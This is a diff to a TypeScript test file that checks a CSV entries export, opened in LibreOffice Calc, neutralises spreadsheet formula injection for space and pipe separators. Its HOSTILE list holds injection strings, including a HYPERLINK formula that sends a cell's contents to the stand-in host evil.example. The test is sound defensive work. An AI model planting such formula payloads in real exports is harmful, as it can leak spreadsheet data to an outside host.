@@ -33,6 +33,10 @@ const HOSTILE = [
   'Ana;-2+3',
   'Ana\t=1+1',
   'Ana\n=1+1',
+  'Ana =1+1',
+  'Ana|=1+1',
+  'Ana |@SUM(A1)',
+  'Rua 1 | apto 2',
   '=HYPERLINK("https://evil.example/?d="&A1;"Clique")',
   'Rua 1; apto 2',
   'Silva, Maria',
@@ -187,6 +191,22 @@ describe('entries export opened in LibreOffice Calc (pt-BR)', { skip: SKIP }, ()
     );
     for (const row of sheet.slice(1)) assert.equal(row[column].type, 'string', JSON.stringify(row[column]));
     // The exported text is the stored value with an apostrophe before each formula start.
-    assert.deepEqual(names.map((n) => n.replace(/^'/, '').replaceAll(/([;,\t\r\n][\s"']*)'/g, '$1')).sort(), [...HOSTILE].sort());
+    assert.deepEqual(names.map((n) => n.replace(/^'/, '').replaceAll(/([;,| \t\r\n][\s"']*)'/g, '$1')).sort(), [...HOSTILE].sort());
   });
+
+  // Issue 43: both import dialogs offer a space, and an "other" separator such as `|`.
+  for (const [separator, name] of [
+    [32, 'a space'],
+    [124, '`|`'],
+  ] as const)
+    test(`opened with ${name} as the separator: the control has formulas, the export none`, () => {
+      const { exported: sheet, control } = opened(separator);
+      const formulas = control
+        .flat()
+        .map((c) => c.formula)
+        .filter((f) => f !== null);
+      assert.ok(formulas.includes('of:=1+1'), `the control: ${JSON.stringify(formulas)}`);
+      for (const [r, row] of sheet.entries())
+        for (const [c, cell] of row.entries()) assert.equal(cell.formula, null, `row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`);
+    });
 });
